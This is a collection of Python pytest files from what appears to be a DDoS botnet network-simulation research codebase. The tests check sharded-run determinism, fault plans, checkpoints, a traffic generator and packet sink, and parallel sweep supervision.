        assert run.stats["workers"] == 4
        metrics = json.dumps(run.ddosim.obs.metrics.snapshot(),
                             sort_keys=True)
        assert (result_to_json(run.result), metrics) == _baseline("off")

    def test_shards_one_is_the_plain_path(self):
        run = run_sharded(_fast_config(), 1)
        assert run.stats == {"shards": 1, "workers": 0, "sync_rounds": 0}
        assert run.writer is None

    def test_sharded_run_reports_worker_stats(self):
        run = run_sharded(_fast_config(), 2)
        assert run.stats["workers"] == 1
        assert run.stats["sync_rounds"] > 0
        assert run.stats["handoffs_up"] > 0
        assert run.stats["handoffs_down"] > 0
        assert run.stats["worker_rss_kib"][1] > 0


class TestFaultPlanParity:
    PLAN = FaultPlan(faults=(
        FaultSpec(kind="crash_restart", target="dev", at=60.0, pick=1,
                  restart_after=20.0),
        FaultSpec(kind="link_flap", target="dev", at=50.0, duration=4.0,
                  count=2, period=15.0),
        FaultSpec(kind="link_degrade", target="dev", at=80.0, duration=25.0,
                  delay=0.05, pick=2),
        FaultSpec(kind="cnc_outage", target="attacker", at=40.0,
                  duration=10.0),
        FaultSpec(kind="sink_stall", target="tserver", at=120.0,
                  duration=5.0),
        FaultSpec(kind="memory_kill", target="dev", at=100.0, pick=1),
    ))

    @pytest.mark.parametrize("shards", [2, 4])
    def test_faulted_run_is_byte_identical(self, shards):
        single = _run_bytes(_fast_config(faults=self.PLAN, seed=5), 1)
        sharded = _run_bytes(_fast_config(faults=self.PLAN, seed=5), shards)
        assert sharded == single

    def test_faults_with_flow_and_churn(self):
        config = _fast_config(faults=self.PLAN, seed=5, flood_flow="auto",
                              churn="dynamic")
        assert _run_bytes(config, 2) == _run_bytes(config, 1)


class TestValidation:
    def test_loss_rate_override_rejected(self):
        plan = FaultPlan(faults=(
            FaultSpec(kind="link_degrade", target="dev", at=10.0,
                      duration=5.0, loss_rate=0.1),
        ))
        with pytest.raises(ShardError, match="loss_rate"):
            run_sharded(_fast_config(faults=plan), 2)

    def test_instrumented_observatory_rejected(self):
        from repro.obs import Observatory

        with pytest.raises(ShardError, match="instrumented"):
            run_sharded(_fast_config(), 2, observatory=Observatory.full())

    def test_lookahead_includes_degrade_overrides(self):
        plan = FaultPlan(faults=(
            FaultSpec(kind="link_degrade", target="dev", at=10.0,
                      duration=5.0, delay=0.005),
        ))
        config = _fast_config(faults=plan)
        assert shard_lookahead(config, plan) == 0.005
        assert shard_lookahead(_fast_config(), None) == \
            _fast_config().dev_link_delay

    def test_announcement_margin_enforced(self):
        config = _fast_config(attack_settle_delay=0.05)
        with pytest.raises(ShardError, match="attack_settle_delay"):
            validate_shard_config(config, 2)

    def test_shards_below_two_rejected_by_validator(self):
        with pytest.raises(ShardError, match="shards >= 2"):
            validate_shard_config(_fast_config(), 1)


class TestSyncTraceLocalization:
    """A wrong cross-shard tie-break key must be *localized*: the sync
    traces of a correct and an injected-wrong run diverge at the first
    reordered hand-off, and the divergence line names the virtual-time
    tick (``t=``) where delivery order first changed — even when the
    aggregate results happen not to differ for this seed."""

    @staticmethod
    def _trace(handoff_key=None):
        run = run_sharded(
            _fast_config(seed=3), 4,
            handoff_key=handoff_key, record_sync_trace=True,
        )
        return run.stats["sync_trace"]

    def test_wrong_tie_break_key_is_localized_to_a_tick(self):
        good = self._trace()
        # Coarsened arrival time: hand-offs within the same 10ms bucket
        # collapse into false ties and re-sort by lane — a protocol bug
        # of exactly the class the deterministic key exists to prevent.
        bad = self._trace(
            handoff_key=lambda entry: (round(entry[0], 2), entry[1], entry[2])
        )
        divergence = first_divergence(good, bad)
        assert divergence is not None
        line = divergence.left or divergence.right
        assert " t=" in line    # the tick where order first changed
        assert "lane=" in line  # and which link lane carried it

    def test_correct_key_traces_are_reproducible(self):
        assert first_divergence(self._trace(), self._trace()) is None


class TestShardedCheckpoints:
    def test_barrier_ticks_match_single_process_writer(self, tmp_path):
        single_dir, sharded_dir = tmp_path / "one", tmp_path / "two"
        single = run_sharded(_fast_config(), 1,
                             checkpoint_dir=str(single_dir),
                             checkpoint_every=40.0)
        sharded = run_sharded(_fast_config(), 2,
                              checkpoint_dir=str(sharded_dir),
                              checkpoint_every=40.0)
        assert sharded.writer.written == single.writer.written
        assert result_to_json(sharded.result) == result_to_json(single.result)

    def test_checkpoint_payload_composes_rank_trees(self, tmp_path):
        from repro.checkpoint import latest_checkpoint, load_checkpoint

        run_sharded(_fast_config(), 2, checkpoint_dir=str(tmp_path),
                    checkpoint_every=40.0)
        payload = load_checkpoint(latest_checkpoint(str(tmp_path)))
        assert payload["shards"] == 2
        prefixes = {name.split("/", 1)[0] for name in payload["fingerprint"]}
        assert prefixes == {"rank0", "rank1"}

    def test_resume_replays_sharded_and_verifies(self, tmp_path):
        from repro.checkpoint import resume_run

        base = run_sharded(_fast_config(), 2, checkpoint_dir=str(tmp_path),
                           checkpoint_every=40.0)
        resumed = resume_run(str(tmp_path))
        assert resumed.writer.verified  # every stored tick re-verified
        assert result_to_json(resumed.result) == result_to_json(base.result)

    def test_resume_rejects_drifted_fingerprints(self, tmp_path):
        from repro.checkpoint import (
            CheckpointDivergence,
            latest_checkpoint,
            load_checkpoint,
            state_digest,
            write_checkpoint,
        )

        run_sharded(_fast_config(), 2, checkpoint_dir=str(tmp_path),
                    checkpoint_every=40.0)
        path = latest_checkpoint(str(tmp_path))
        payload = load_checkpoint(path)
        payload["fingerprint"]["rank1/rng"] = "0" * 64
        payload["root"] = state_digest(payload["fingerprint"])
        write_checkpoint(str(tmp_path), payload)
        from repro.checkpoint import resume_run

        with pytest.raises(CheckpointDivergence) as excinfo:
            resume_run(str(tmp_path))
        assert "rank1/rng" in excinfo.value.subsystems


# ----------------------------------------------------------------------
# Shard ownership contract: the SIM2xx analyzer and the runtime auditor
# must both catch the same seeded violation
# ----------------------------------------------------------------------
class TestShardContract:
    """Mutation-style check of the whole shard-safety net.

    Seed one contract violation — mute ``link_tx_packets_total``, a
    counter the worker datapath increments at non-replicated sites —
    and require every layer to notice: the static SIM203 pass flags the
    increment sites with file:line, and an audited sharded run both
    diverges from the single-process snapshot (the increments really do
    vanish from the merge) and reports the offending call site.
    """

    SEEDED_FAMILY = "link_tx_packets_total"

    def _seeded_contract(self):
        import copy

        from repro.netsim.shard import SHARD_CONTRACT

        contract = copy.deepcopy(SHARD_CONTRACT)
        contract["worker_muted_counters"] = (
            list(contract["worker_muted_counters"]) + [self.SEEDED_FAMILY]
        )
        return contract

    def test_contract_is_a_pure_literal(self):
        # the analyzer reads the contract with ast.literal_eval; a
        # computed value would silently disable every SIM2xx rule
        import ast
        from pathlib import Path

        import repro.netsim.shard as shard_module

        tree = ast.parse(Path(shard_module.__file__).read_text())
        literal = None
        for stmt in tree.body:
            if isinstance(stmt, ast.Assign) and any(
                    isinstance(t, ast.Name) and t.id == "SHARD_CONTRACT"
                    for t in stmt.targets):
                literal = ast.literal_eval(stmt.value)
        assert literal == shard_module.SHARD_CONTRACT

    def test_seeded_violation_caught_statically_with_file_line(self):
        from repro.simlint import lint_paths

        src = str(Path(__file__).resolve().parents[1] / "src" / "repro")
        findings = lint_paths([src], select=["SIM203"],
                              contract=self._seeded_contract())
        assert findings, "seeded muted counter must trip SIM203"
        sites = {(f.path, f.line) for f in findings}
        assert all(path.endswith("netsim/channel.py") for path, _ in sites)
        assert all(line > 0 for _, line in sites)
        assert all(self.SEEDED_FAMILY in f.message for f in findings)

    def test_seeded_violation_diverges_and_is_audited_at_runtime(
            self, monkeypatch):
        from repro.netsim import shard as shard_module

        config = _fast_config()
        _result, base_metrics = _baseline("off")
        monkeypatch.setattr(
            shard_module, "_WORKER_MUTED",
            frozenset(shard_module._WORKER_MUTED | {self.SEEDED_FAMILY}),
        )
        run = run_sharded(config, 2, audit=True)
        metrics = json.dumps(run.ddosim.obs.metrics.snapshot(),
                             sort_keys=True)
        assert metrics != base_metrics  # the increments really vanished
        dirty = [report for report in run.stats["audit"]
                 if not report["clean"]]
        assert dirty, "auditor must record the muted increments"
        violation = dirty[0]["violations"][0]
        assert violation["kind"] == "muted-counter"
        assert violation["target"] == self.SEEDED_FAMILY
        assert violation["site"].partition(":")[0].endswith(
            "netsim/channel.py")

    def test_audited_clean_run_is_byte_identical_and_clean(self):
        run = run_sharded(_fast_config(), 2, audit=True)
        metrics = json.dumps(run.ddosim.obs.metrics.snapshot(),
                             sort_keys=True)
        assert (result_to_json(run.result), metrics) == _baseline("off")
        reports = run.stats["audit"]
        assert reports and all(report["clean"] for report in reports)

    def test_disabled_audit_keeps_the_null_instrument_path(self):
        # audit off must add zero work to the datapath: muted families
        # hand out the shared no-op instrument, nothing is wrapped
        from repro.netsim.shard import _MutedRegistry
        from repro.obs.metrics import NULL_INSTRUMENT

        registry = _MutedRegistry(None)
        assert registry.counter("churn_departures_total") is NULL_INSTRUMENT
        run = run_sharded(_fast_config(), 2)
        assert "audit" not in run.stats
