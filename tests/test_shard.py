"""Sharded simulation engine: byte-identity, protocol, and chaos tests.

The contract under test (repro.netsim.shard): partitioning ONE run
across N worker processes changes wall-clock only — the serialized
RunResult and the metrics snapshot are byte-identical to the
single-process run, cross-shard hand-off ordering is deterministic and
observable (sync traces), and checkpoint fingerprint trees compose
across ranks so kill/resume round-trips survive sharding.
"""

import json

import pytest

from repro.core.config import SimulationConfig
from repro.faults import FaultPlan, FaultSpec
from repro.netsim.shard import (
    ShardError,
    run_sharded,
    shard_lookahead,
    validate_shard_config,
)
from repro.serialization import result_to_json
from repro.simlint.verify import first_divergence


def _fast_config(**overrides):
    base = dict(n_devs=4, seed=3, attack_duration=30.0, sim_duration=200.0)
    base.update(overrides)
    return SimulationConfig(**base)


def _run_bytes(config, shards):
    run = run_sharded(config, shards)
    metrics = json.dumps(run.ddosim.obs.metrics.snapshot(), sort_keys=True)
    return result_to_json(run.result), metrics


#: per-flow-mode single-process baselines, computed once per session
_BASELINES = {}


def _baseline(flow):
    if flow not in _BASELINES:
        _BASELINES[flow] = _run_bytes(_fast_config(flood_flow=flow), 1)
    return _BASELINES[flow]


class TestByteIdentity:
    @pytest.mark.parametrize("flow", ["off", "auto", "all"])
    @pytest.mark.parametrize("shards", [2, 4])
    def test_sharded_matches_single_process(self, flow, shards):
        assert _run_bytes(_fast_config(flood_flow=flow), shards) == \
            _baseline(flow)

    @pytest.mark.parametrize("shards", [2, 4])
    def test_train_datapath_matches_single_process(self, shards):
        config = _fast_config(flood_train=8)
        assert _run_bytes(config, shards) == _run_bytes(config, 1)

    def test_more_shards_than_devs_clamps_to_fleet(self):
        # 4 Devs, 9 shards: worker count clamps to the fleet size.
        run = run_sharded(_fast_config(), 9)
        assert run.stats["workers"] == 4
        metrics = json.dumps(run.ddosim.obs.metrics.snapshot(),
                             sort_keys=True)
        assert (result_to_json(run.result), metrics) == _baseline("off")

    def test_shards_one_is_the_plain_path(self):
        run = run_sharded(_fast_config(), 1)
        assert run.stats == {"shards": 1, "workers": 0, "sync_rounds": 0}
        assert run.writer is None

    def test_sharded_run_reports_worker_stats(self):
        run = run_sharded(_fast_config(), 2)
        assert run.stats["workers"] == 1
        assert run.stats["sync_rounds"] > 0
        assert run.stats["handoffs_up"] > 0
        assert run.stats["handoffs_down"] > 0
        assert run.stats["worker_rss_kib"][1] > 0


class TestFaultPlanParity:
    PLAN = FaultPlan(faults=(
        FaultSpec(kind="crash_restart", target="dev", at=60.0, pick=1,
                  restart_after=20.0),
        FaultSpec(kind="link_flap", target="dev", at=50.0, duration=4.0,
                  count=2, period=15.0),
        FaultSpec(kind="link_degrade", target="dev", at=80.0, duration=25.0,
                  delay=0.05, pick=2),
        FaultSpec(kind="cnc_outage", target="attacker", at=40.0,
                  duration=10.0),
        FaultSpec(kind="sink_stall", target="tserver", at=120.0,
                  duration=5.0),
        FaultSpec(kind="memory_kill", target="dev", at=100.0, pick=1),
    ))

    @pytest.mark.parametrize("shards", [2, 4])
    def test_faulted_run_is_byte_identical(self, shards):
        single = _run_bytes(_fast_config(faults=self.PLAN, seed=5), 1)
        sharded = _run_bytes(_fast_config(faults=self.PLAN, seed=5), shards)
        assert sharded == single

    def test_faults_with_flow_and_churn(self):
        config = _fast_config(faults=self.PLAN, seed=5, flood_flow="auto",
                              churn="dynamic")
        assert _run_bytes(config, 2) == _run_bytes(config, 1)


class TestValidation:
    def test_loss_rate_override_rejected(self):
        plan = FaultPlan(faults=(
            FaultSpec(kind="link_degrade", target="dev", at=10.0,
                      duration=5.0, loss_rate=0.1),
        ))
        with pytest.raises(ShardError, match="loss_rate"):
            run_sharded(_fast_config(faults=plan), 2)

    def test_instrumented_observatory_rejected(self):
        from repro.obs import Observatory

        with pytest.raises(ShardError, match="instrumented"):
            run_sharded(_fast_config(), 2, observatory=Observatory.full())

    def test_lookahead_includes_degrade_overrides(self):
        plan = FaultPlan(faults=(
            FaultSpec(kind="link_degrade", target="dev", at=10.0,
                      duration=5.0, delay=0.005),
        ))
        config = _fast_config(faults=plan)
        assert shard_lookahead(config, plan) == 0.005
        assert shard_lookahead(_fast_config(), None) == \
            _fast_config().dev_link_delay

    def test_announcement_margin_enforced(self):
        config = _fast_config(attack_settle_delay=0.05)
        with pytest.raises(ShardError, match="attack_settle_delay"):
            validate_shard_config(config, 2)

    def test_shards_below_two_rejected_by_validator(self):
        with pytest.raises(ShardError, match="shards >= 2"):
            validate_shard_config(_fast_config(), 1)


class TestSyncTraceLocalization:
    """A wrong cross-shard tie-break key must be *localized*: the sync
    traces of a correct and an injected-wrong run diverge at the first
    reordered hand-off, and the divergence line names the virtual-time
    tick (``t=``) where delivery order first changed — even when the
    aggregate results happen not to differ for this seed."""

    @staticmethod
    def _trace(handoff_key=None):
        run = run_sharded(
            _fast_config(seed=3), 4,
            handoff_key=handoff_key, record_sync_trace=True,
        )
        return run.stats["sync_trace"]

    def test_wrong_tie_break_key_is_localized_to_a_tick(self):
        good = self._trace()
        # Coarsened arrival time: hand-offs within the same 10ms bucket
        # collapse into false ties and re-sort by lane — a protocol bug
        # of exactly the class the deterministic key exists to prevent.
        bad = self._trace(
            handoff_key=lambda entry: (round(entry[0], 2), entry[1], entry[2])
        )
        divergence = first_divergence(good, bad)
        assert divergence is not None
        line = divergence.left or divergence.right
        assert " t=" in line    # the tick where order first changed
        assert "lane=" in line  # and which link lane carried it

    def test_correct_key_traces_are_reproducible(self):
        assert first_divergence(self._trace(), self._trace()) is None


class TestShardedCheckpoints:
    def test_barrier_ticks_match_single_process_writer(self, tmp_path):
        single_dir, sharded_dir = tmp_path / "one", tmp_path / "two"
        single = run_sharded(_fast_config(), 1,
                             checkpoint_dir=str(single_dir),
                             checkpoint_every=40.0)
        sharded = run_sharded(_fast_config(), 2,
                              checkpoint_dir=str(sharded_dir),
                              checkpoint_every=40.0)
        assert sharded.writer.written == single.writer.written
        assert result_to_json(sharded.result) == result_to_json(single.result)

    def test_checkpoint_payload_composes_rank_trees(self, tmp_path):
        from repro.checkpoint import latest_checkpoint, load_checkpoint

        run_sharded(_fast_config(), 2, checkpoint_dir=str(tmp_path),
                    checkpoint_every=40.0)
        payload = load_checkpoint(latest_checkpoint(str(tmp_path)))
        assert payload["shards"] == 2
        prefixes = {name.split("/", 1)[0] for name in payload["fingerprint"]}
        assert prefixes == {"rank0", "rank1"}

    def test_resume_replays_sharded_and_verifies(self, tmp_path):
        from repro.checkpoint import resume_run

        base = run_sharded(_fast_config(), 2, checkpoint_dir=str(tmp_path),
                           checkpoint_every=40.0)
        resumed = resume_run(str(tmp_path))
        assert resumed.writer.verified  # every stored tick re-verified
        assert result_to_json(resumed.result) == result_to_json(base.result)

    def test_resume_rejects_drifted_fingerprints(self, tmp_path):
        from repro.checkpoint import (
            CheckpointDivergence,
            latest_checkpoint,
            load_checkpoint,
            state_digest,
            write_checkpoint,
        )

        run_sharded(_fast_config(), 2, checkpoint_dir=str(tmp_path),
                    checkpoint_every=40.0)
        path = latest_checkpoint(str(tmp_path))
        payload = load_checkpoint(path)
        payload["fingerprint"]["rank1/rng"] = "0" * 64
        payload["root"] = state_digest(payload["fingerprint"])
        write_checkpoint(str(tmp_path), payload)
        from repro.checkpoint import resume_run

        with pytest.raises(CheckpointDivergence) as excinfo:
            resume_run(str(tmp_path))
        assert "rank1/rng" in excinfo.value.subsystems
