"""Unit tests for applications: OnOff traffic, the TServer sink, tracing."""

import pytest

from repro.netsim.application import OnOffApplication
from repro.netsim.sink import PacketSink
from repro.netsim.tracing import FlowMonitor, PacketCapture


class TestOnOffApplication:
    def test_sends_at_configured_rate_during_on_period(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sink = PacketSink(node_b)
        sink.start()
        app = OnOffApplication(
            node_a, star.address_of(node_b), 9000,
            rate_bps=80_000, packet_size=100,  # 100 pkt/s
            on_seconds=1.0, off_seconds=1.0,
        )
        app.start()
        sim.run(until=1.0)
        assert 95 <= app.packets_sent <= 105

    def test_off_period_pauses_sending(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        app = OnOffApplication(
            node_a, star.address_of(node_b), 9000,
            rate_bps=80_000, packet_size=100,
            on_seconds=1.0, off_seconds=9.0,
        )
        app.start()
        sim.run(until=1.0)
        after_on = app.packets_sent
        sim.run(until=9.5)
        assert app.packets_sent == after_on

    def test_stop_halts_traffic(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        app = OnOffApplication(
            node_a, star.address_of(node_b), 9000,
            rate_bps=80_000, packet_size=100,
        )
        app.start()
        sim.run(until=0.5)
        app.stop()
        sent = app.packets_sent
        sim.run(until=2.0)
        assert app.packets_sent == sent

    def test_invalid_parameters_rejected(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        with pytest.raises(ValueError):
            OnOffApplication(node_a, star.address_of(node_b), 1, rate_bps=0)

    def test_schedule_start_stop_window(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        app = OnOffApplication(
            node_a, star.address_of(node_b), 9000,
            rate_bps=80_000, packet_size=100, on_seconds=100.0,
        )
        app.schedule_start(1.0)
        app.schedule_stop(2.0)
        sim.run(until=5.0)
        assert 90 <= app.packets_sent <= 110


class TestPacketSink:
    def test_counts_any_udp_port(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sink = PacketSink(node_b)
        sink.start()
        for port in (1, 7777, 50_000):
            node_a.udp.send_datagram(
                None, star.address_of(node_b), port, src_port=9, payload_size=100
            )
        sim.run()
        assert sink.total_packets == 3
        # 100 B payload + 8 B UDP + 40 B IPv6 per packet
        assert sink.total_bytes == 3 * 148

    def test_per_second_binning(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sink = PacketSink(node_b)
        sink.start()
        for delay in (0.1, 0.2, 1.5):
            sim.schedule(
                delay,
                node_a.udp.send_datagram,
                None, star.address_of(node_b), 7, 9, 100,
            )
        sim.run()
        assert sink.bytes_per_bin[0] == 2 * 148
        assert sink.bytes_per_bin[1] == 148

    def test_bytes_received_between(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sink = PacketSink(node_b)
        sink.start()
        sim.schedule(0.5, node_a.udp.send_datagram,
                     None, star.address_of(node_b), 7, 9, 100)
        sim.schedule(2.5, node_a.udp.send_datagram,
                     None, star.address_of(node_b), 7, 9, 100)
        sim.run()
        assert sink.bytes_received_between(0.0, 1.0) == 148
        assert sink.bytes_received_between(0.0, 3.0) == 296
        assert sink.bytes_received_between(1.0, 2.0) == 0

    def test_per_source_accounting(self, sim, star):
        from repro.netsim.node import Node

        receiver = Node(sim, "recv")
        star.attach_host(receiver, 1e6)
        sink = PacketSink(receiver)
        sink.start()
        senders = []
        for index in range(3):
            sender = Node(sim, f"s{index}")
            star.attach_host(sender, 1e6)
            senders.append(sender)
            sender.udp.send_datagram(
                None, star.address_of(receiver), 7, src_port=100, payload_size=10
            )
        sim.run()
        assert sink.distinct_sources() == 3

    def test_stopped_sink_ignores_traffic(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sink = PacketSink(node_b)
        sink.start()
        sink.stop()
        node_a.udp.send_datagram(None, star.address_of(node_b), 7, 9, 100)
        sim.run()
        assert sink.total_packets == 0

    def test_reset_clears_state(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sink = PacketSink(node_b)
        sink.start()
        node_a.udp.send_datagram(None, star.address_of(node_b), 7, 9, 100)
        sim.run()
        sink.reset()
        assert sink.total_bytes == 0
        assert sink.first_packet_time is None
        assert sink.distinct_sources() == 0

    def test_rate_series(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sink = PacketSink(node_b)
        sink.start()
        sim.schedule(0.5, node_a.udp.send_datagram,
                     None, star.address_of(node_b), 7, 9, 1000)
        sim.run()
        series = sink.rate_series_kbps(0.0, 2.0)
        assert len(series) == 2
        assert series[0] == pytest.approx(1048 * 8 / 1000)
        assert series[1] == 0.0

    def test_invalid_bin_width_rejected(self, sim, two_hosts):
        _, node_b, _ = two_hosts
        with pytest.raises(ValueError):
            PacketSink(node_b, bin_width=0)


class TestTracing:
    def test_flow_monitor_groups_by_five_tuple(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        monitor = FlowMonitor(node_b)
        PacketSink(node_b).start()
        for _ in range(3):
            node_a.udp.send_datagram(
                None, star.address_of(node_b), 7, src_port=100, payload_size=50
            )
        node_a.udp.send_datagram(
            None, star.address_of(node_b), 8, src_port=100, payload_size=50
        )
        sim.run()
        assert len(monitor.flows) == 2
        assert monitor.total_packets() == 4

    def test_flow_stats_rates(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        monitor = FlowMonitor(node_b)
        PacketSink(node_b).start()
        for delay in (0.0, 1.0):
            sim.schedule(delay, node_a.udp.send_datagram,
                         None, star.address_of(node_b), 7, 100, 1000)
        sim.run()
        stats = next(iter(monitor.flows.values()))
        assert stats.packets == 2
        assert stats.duration == pytest.approx(1.0)
        assert stats.mean_rate_bps() > 0

    def test_packet_capture_records_metadata(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        capture = PacketCapture(node_b)
        PacketSink(node_b).start()
        node_a.udp.send_datagram(
            None, star.address_of(node_b), 7777, src_port=9, payload_size=64
        )
        sim.run()
        assert len(capture.records) == 1
        record = capture.records[0]
        assert record.dst_port == 7777
        assert record.src == star.address_of(node_a)

    def test_packet_capture_truncates(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        capture = PacketCapture(node_b, max_records=5)
        PacketSink(node_b).start()
        for _ in range(10):
            node_a.udp.send_datagram(
                None, star.address_of(node_b), 7, src_port=9, payload_size=10
            )
        sim.run()
        assert len(capture.records) == 5
        assert capture.truncated

    def test_capture_between(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        capture = PacketCapture(node_b)
        PacketSink(node_b).start()
        for delay in (0.5, 1.5, 2.5):
            sim.schedule(delay, node_a.udp.send_datagram,
                         None, star.address_of(node_b), 7, 9, 10)
        sim.run()
        assert len(capture.between(1.0, 3.0)) == 2
