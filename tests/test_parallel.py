"""Parallel sweep sharding: jobs=N must be a pure wall-clock knob.

Grid points share nothing (each builds its own simulator from its own
seeded config), so sharding across worker processes may never change a
row.  These tests pin that contract: serial and parallel execution
produce identical results, in input order, and merged metric snapshots
aggregate exactly.
"""

import dataclasses
import os
import signal
import time

import pytest

from repro.core.config import SimulationConfig
from repro.parallel import (
    QuarantinedPoint,
    Supervision,
    SweepTelemetry,
    default_jobs,
    merge_metric_snapshots,
    run_configs,
    run_configs_with_metrics,
    run_map,
)


def _square(value):
    return value * value


class TestRunMap:
    def test_serial_path_preserves_order(self):
        assert run_map(_square, [3, 1, 2], jobs=1) == [9, 1, 4]

    def test_parallel_path_preserves_order(self):
        items = list(range(20))
        assert run_map(_square, items, jobs=4) == [v * v for v in items]

    def test_single_item_short_circuits_pool(self):
        assert run_map(_square, [7], jobs=8) == [49]

    def test_default_jobs_positive(self):
        assert default_jobs() >= 1


def _tiny_config(seed):
    return SimulationConfig(
        n_devs=4,
        seed=seed,
        attack_duration=5.0,
        sim_duration=30.0,
    )


class TestRunConfigs:
    def test_parallel_results_identical_to_serial(self):
        configs = [_tiny_config(seed) for seed in (1, 2, 3)]
        serial = run_configs(configs, jobs=1)
        parallel = run_configs(configs, jobs=3)
        assert [dataclasses.asdict(r) for r in serial] == [
            dataclasses.asdict(r) for r in parallel
        ]

    def test_metrics_variant_matches_and_merges(self):
        configs = [_tiny_config(seed) for seed in (1, 2)]
        serial_results, serial_merged = run_configs_with_metrics(configs, jobs=1)
        parallel_results, parallel_merged = run_configs_with_metrics(configs, jobs=2)
        assert [dataclasses.asdict(r) for r in serial_results] == [
            dataclasses.asdict(r) for r in parallel_results
        ]
        assert serial_merged == parallel_merged
        # Every run schedules events, so the merged counter must cover
        # both runs (strictly more than either one alone).
        counters = serial_merged["counters"]
        assert counters, "runs must export at least one counter"


class TestSweepEquivalence:
    def test_figure2_rows_identical_across_jobs(self):
        from repro.core.experiment import run_figure2

        base = SimulationConfig(
            n_devs=1, attack_duration=5.0, sim_duration=30.0
        )
        serial = run_figure2(
            devs_grid=(2, 4), churn_modes=("none",), seed=3, base_config=base,
            jobs=1,
        )
        parallel = run_figure2(
            devs_grid=(2, 4), churn_modes=("none",), seed=3, base_config=base,
            jobs=2,
        )
        assert serial == parallel


def _hang_on_two(value):
    if value == 2:
        time.sleep(60)
    return value * 10


def _die_once(item):
    value, flag = item
    if value == 1 and not os.path.exists(flag):
        open(flag, "w").close()
        os.kill(os.getpid(), signal.SIGKILL)
    return value + 100


def _always_die(_value):
    os.kill(os.getpid(), signal.SIGKILL)


def _play_dead(value):
    if value == 0:
        import repro.parallel as parallel_module

        # Worker-side test hook: stop heartbeating but stay alive, so
        # only stale-heartbeat detection (not process death) can save us.
        parallel_module._heartbeat_suppressed.set()
        time.sleep(60)
    return value


def _boom(value):
    if value == 1:
        raise ValueError("bad point")
    return value


class TestSupervisionPolicy:
    def test_backoff_is_capped_exponential(self):
        sup = Supervision(backoff_base=0.25, backoff_cap=8.0)
        assert [sup.backoff(n) for n in (1, 2, 3, 6, 10)] == [
            0.25, 0.5, 1.0, 8.0, 8.0,
        ]

    def test_quarantine_arms_with_point_timeout(self):
        assert not Supervision().quarantines
        assert Supervision(point_timeout=5.0).quarantines
        assert not Supervision(point_timeout=5.0, quarantine=False).quarantines
        assert Supervision(quarantine=True).quarantines

    def test_hang_detection_arms_with_point_timeout(self):
        assert Supervision().effective_hung_after is None
        assert Supervision(point_timeout=5.0).effective_hung_after == 5.0
        assert Supervision(hung_after=2.0).effective_hung_after == 2.0


class TestSupervisedExecution:
    def test_timeout_quarantines_only_the_poison_point(self):
        sup = Supervision(point_timeout=1.0, retries=1, backoff_base=0.05)
        results = run_map(_hang_on_two, [0, 1, 2, 3], jobs=2, supervision=sup)
        assert results[0] == 0 and results[1] == 10 and results[3] == 30
        poison = results[2]
        assert isinstance(poison, QuarantinedPoint)
        assert poison.index == 2
        assert poison.reason == "timeout"
        assert poison.attempts == 2  # original try + one retry

    def test_worker_death_retries_once_by_default(self, tmp_path):
        flag = str(tmp_path / "died-once")
        items = [(value, flag) for value in range(3)]
        assert run_map(_die_once, items, jobs=2) == [100, 101, 102]
        assert os.path.exists(flag), "the worker must actually have died"

    def test_exhausted_retries_raise_without_quarantine(self):
        sup = Supervision(retries=1, backoff_base=0.05)
        with pytest.raises(RuntimeError, match="worker_death"):
            run_map(_always_die, [0], jobs=2, supervision=sup)

    def test_hung_worker_detected_by_stale_heartbeat(self):
        sup = Supervision(point_timeout=30.0, retries=0, hung_after=1.0,
                          backoff_base=0.05)
        results = run_map(_play_dead, [0, 1], jobs=2, supervision=sup)
        assert isinstance(results[0], QuarantinedPoint)
        assert results[0].reason == "hung"
        assert results[1] == 1

    def test_point_exception_propagates_like_serial(self):
        with pytest.raises(ValueError, match="bad point"):
            run_map(_boom, [0, 1], jobs=2)

    def test_serial_path_honors_point_timeout(self):
        # A timeout policy cannot be enforced in-process, so jobs=1
        # must still route through a supervised worker.
        sup = Supervision(point_timeout=1.0, retries=0)
        results = run_map(_hang_on_two, [2], jobs=1, supervision=sup)
        assert isinstance(results[0], QuarantinedPoint)

    def test_telemetry_records_retries_and_quarantine(self, capsys):
        telemetry = SweepTelemetry(label="t", quiet=True)
        telemetry.begin(2, 2)
        sup = Supervision(point_timeout=1.0, retries=1, backoff_base=0.05)
        run_map(_hang_on_two, [0, 2], jobs=2, supervision=sup,
                telemetry=telemetry)
        summary = telemetry.finish()
        assert summary["quarantined"] == [1]
        assert summary["retries"] >= 1
        kinds = [note["kind"] for note in telemetry.recorder.recent()]
        assert "sweep.point_retry" in kinds
        assert "sweep.quarantine" in kinds
        err = capsys.readouterr().err
        assert "QUARANTINED" in err  # forced through quiet mode


class TestMergeMetricSnapshots:
    def test_counters_sum_per_label(self):
        merged = merge_metric_snapshots([
            {"counters": {"events": {"": 3, "a=1": 2}}},
            {"counters": {"events": {"": 4}}},
        ])
        assert merged["counters"]["events"] == {"": 7, "a=1": 2}

    def test_gauges_keep_high_water_mark(self):
        merged = merge_metric_snapshots([
            {"gauges": {"depth": {"": 9}}},
            {"gauges": {"depth": {"": 4}}},
        ])
        assert merged["gauges"]["depth"] == {"": 9}

    def test_histograms_sum_and_recompute_mean(self):
        merged = merge_metric_snapshots([
            {"histograms": {"lat": {"": {
                "count": 2, "sum": 4.0, "mean": 2.0, "buckets": {"1": 1, "inf": 2},
            }}}},
            {"histograms": {"lat": {"": {
                "count": 2, "sum": 8.0, "mean": 4.0, "buckets": {"inf": 2},
            }}}},
        ])
        hist = merged["histograms"]["lat"][""]
        assert hist["count"] == 4
        assert hist["sum"] == pytest.approx(12.0)
        assert hist["mean"] == pytest.approx(3.0)
        assert hist["buckets"] == {"1": 1, "inf": 4}

    def test_empty_input_yields_empty_families(self):
        assert merge_metric_snapshots([]) == {
            "counters": {}, "gauges": {}, "histograms": {},
        }
